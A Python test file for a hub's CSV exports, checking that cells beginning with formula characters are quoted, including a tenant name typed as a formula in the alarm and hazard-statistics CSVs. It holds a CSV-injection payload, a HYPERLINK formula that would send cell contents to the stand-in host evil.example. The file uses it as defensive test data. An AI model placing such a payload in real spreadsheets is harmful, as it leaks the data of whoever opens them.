"""Every CSV the hub answers (the alarm list's, the hidden-danger statistics') quotes a text a
spreadsheet would run as a formula, whoever typed it: a tenant named `=HYPERLINK(...)` by an
admin of that tenant came out as it was in the statistics' CSV the centre opens in Excel
(helper-220), while the alarm list's quoted it."""

from __future__ import annotations

import csv
import io

from test_api_alarms import COAL, auth
from test_api_tenancy import Rig, rig

from api.csvfile import csv_bytes, safe_cell

__all__ = ["rig"]

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"北方煤业")'


def test_a_formula_is_quoted_and_numbers_are_not() -> None:
    for text in (EVIL, "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in (-3, 2.5, "", "北方煤业", "a=b", None)] == [
        -3, 2.5, "", "北方煤业", "a=b", None,
    ]  # fmt: skip
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "=b"], [[EVIL, -1]]).decode("utf-8-sig"))))
    assert rows == [["a", "'=b"], ["'" + EVIL, "-1"]]


async def test_a_tenants_name_typed_as_a_formula_is_quoted_in_every_csv(rig: Rig) -> None:
    c = rig.client
    url = f"/api/v1/registry/tenants/{COAL}"
    tenant = (await c.get(url, headers=auth("admin"))).json()
    r = await c.put(url, json={**tenant, "name": EVIL}, headers=auth("admin"))
    assert r.status_code == 200, r.text
    for path in ("/api/v1/hazards/stats?year=2026&format=csv", "/api/v1/alarms?format=csv"):
        r = await c.get(path, headers=auth("admin"))
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        names = {row["tenant_name"] for row in rows if row["tenant"] == COAL}
        assert names == {"'" + EVIL}, (path, r.text)
